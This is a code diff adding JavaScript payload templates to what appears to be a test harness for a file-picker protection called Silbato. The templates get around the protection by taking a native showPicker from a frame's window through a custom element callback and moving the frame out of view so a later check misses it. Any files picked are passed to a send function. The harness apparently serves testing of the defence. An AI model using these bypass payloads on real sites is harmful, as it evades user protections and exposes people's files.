@@ -406,3 +406,39 @@ export async function pickSample(p, click, timeout = 15000) {
   await c.setFiles(sample);
   return true;
 }
+
+/**
+ * Attacks 39 and 40's page code: a frame f whose fallback's custom element `tag`, connected while `go` is set, runs `onConnect(b)` (b: the last
+ * frame's window, read as window[i], not through contentWindow, which Silbato wraps). `&dry=1` in the address:
+ * only noted, nothing opened (to read the notes of a way that gets through).
+ */
+export const fallbackGrabber = (tag, onConnect) => `
+      const dry = new URLSearchParams(location.search).has('dry');
+      const f = frame();
+      let go = false;
+      customElements.define('${tag}', class extends HTMLElement {
+        connectedCallback() {
+          if (!go) return;
+          go = false;
+          const b = last();
+          note('callback: frames ' + window.length + ', b: ' + says(b) + ', is f ' + (b && b.frameElement === f));
+          if (!b || wrapped(b.HTMLInputElement.prototype.showPicker) || dry) return;
+          ${onConnect}
+        }
+      });
+      f.append(document.createElement('${tag}'));`;
+
+/** Open a picker at once with b's native showPicker (inside the person's click). */
+export const OPEN_AT_ONCE = `
+          const input = document.createElement('input');
+          input.type = 'file';
+          input.addEventListener('change', () => { if (input.files.length) send([...input.files], 'change'); });
+          try { b.HTMLInputElement.prototype.showPicker.call(input); note('opened in the callback'); } catch (e) { note('callback: ' + e.name); }`;
+
+/** Keep b's native showPicker, then move f out (moveBefore keeps its window) so the after-look finds no frame. */
+export const GRAB_AND_MOVE = `
+          grab(b, 'callback');
+          try { const w = f.contentWindow; park.moveBefore(f, null); note('moved out: same window ' + (f.contentWindow === w)); } catch (e) { note('moveBefore threw ' + e.name); }`;
+
+/** The page's last notes, added to its status line once the click's work is done. */
+export const NOTES_STATUS = "setTimeout(() => { const st = document.getElementById('status'); if (st) st.textContent += ' | ' + (window.notes || []).slice(-6).join(' / '); }, 0);";
